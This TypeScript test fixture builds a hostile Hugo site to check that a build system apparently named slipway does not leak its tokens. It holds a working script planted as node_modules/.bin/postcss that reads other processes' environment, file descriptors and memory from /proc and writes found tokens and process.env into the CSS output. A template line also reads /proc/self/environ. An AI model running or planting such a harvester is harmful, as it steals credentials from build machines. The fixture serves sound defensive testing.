/** A site whose own code goes after the secrets of its build, and what is to be found of them. */
import path from 'node:path';
import { buildSurroundings, git, namesIn, token } from './build-fixture.ts';
import { gitServer } from './git-server.ts';

export const gitToken = 'git-token-9c27';

/** Stands where Hugo looks for PostCSS: prints whatever it can read of any process, and of what a parent may have left. */
const thief = String.raw`#!/usr/bin/env node
const fs = require('node:fs');
const found = [];
const secrets = /(callback|git)-token-[0-9a-f]{4}|sig=[A-Za-z0-9%]{20,}|Basic [A-Za-z0-9+/=]{20,}/g;
const keep = (from, text) => { for (const [secret] of text.matchAll(secrets)) found.push(from + ': ' + secret); };
const look = (file) => { try { const { size } = fs.statSync(file); if (size < 1e6 && fs.statSync(file).isFile()) keep(file, fs.readFileSync(file, 'latin1')); } catch {} };
const list = (folder) => { try { return fs.readdirSync(folder); } catch { return []; } };
const search = (pid) => {
  try {
    if (!fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('build-site')) return;
    const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
    for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (!from || parseInt(to, 16) - parseInt(from, 16) > 50e6) continue;
      const bytes = Buffer.alloc(parseInt(to, 16) - parseInt(from, 16));
      try { fs.readSync(memory, bytes, 0, bytes.length, parseInt(from, 16)); } catch { continue; }
      keep('memory of ' + pid, bytes.toString('latin1'));
    }
  } catch {}
};
for (const pid of list('/proc').filter((name) => /^[0-9]+$/.test(name) && Number(name) !== process.pid)) {
  for (const name of ['environ', 'cmdline']) look('/proc/' + pid + '/' + name);
  for (const fd of list('/proc/' + pid + '/fd')) look('/proc/' + pid + '/fd/' + fd);
  search(pid);
}
for (const folder of list('/tmp').filter((name) => /^slipway-(own|build)-/.test(name))) {
  for (const file of list('/tmp/' + folder)) look('/tmp/' + folder + '/' + file);
}
process.stdin.resume().on('end', () => process.stdout.write('/* the thief was here\n' + JSON.stringify(process.env) + found.join('\n') + ' */'));
`;

const hostileFiles = {
  'config.yaml': 'disableKinds: [taxonomy, term, RSS, sitemap]\n',
  'assets/a.css': 'a{}',
  'node_modules/.bin/postcss': thief,
  'layouts/index.html': [
    '{{ with resources.Get "a.css" | postCSS }}{{ .Content }}{{ end }}',
    '{{ with os.FileExists "/proc/self/environ" }}{{ os.ReadFile "/proc/self/environ" }}{{ end }}',
  ].join('\n'),
};

/** A repository with the thief, behind a server, and all that a build of it needs. */
export async function hostileSite() {
  const surroundings = await buildSurroundings(hostileFiles);
  const { directory } = surroundings.site;
  await git(directory, 'update-index', '--chmod=+x', 'node_modules/.bin/postcss');
  await git(directory, 'commit', '--quiet', '--message', 'Let it run');
  const commit = await git(directory, 'rev-parse', 'HEAD');
  const server = await gitServer(path.dirname(directory));
  const env = {
    ...surroundings.env,
    SLIPWAY_REPOSITORY: server.urlOf(directory),
    SLIPWAY_COMMIT: commit,
    SLIPWAY_GIT_TOKEN: gitToken,
  };
  return { ...surroundings, env, server };
}

/** Everything that leaves a build: the objects of the release, its manifest and report, what was reported and the log. */
export async function everythingOf(
  { store, callback }: Awaited<ReturnType<typeof hostileSite>>,
  { stdout }: { stdout: string },
) {
  const texts = [stdout, JSON.stringify(callback.received.map(({ body }) => body))];
  for (const name of await namesIn(store.container, '')) {
    texts.push((await store.container.getBlobClient(name).downloadToBuffer()).toString('latin1'));
  }
  return texts.join('\n');
}

export function secretsOf(uploadUrl: string): string[] {
  const signature = new URL(uploadUrl).searchParams.get('sig') ?? '';
  return [token, gitToken, `x-access-token:${gitToken}`, signature].flatMap((secret) => [
    secret,
    encodeURIComponent(secret),
    Buffer.from(secret).toString('base64'),
  ]);
}

export const wasThere = 'the thief was here';
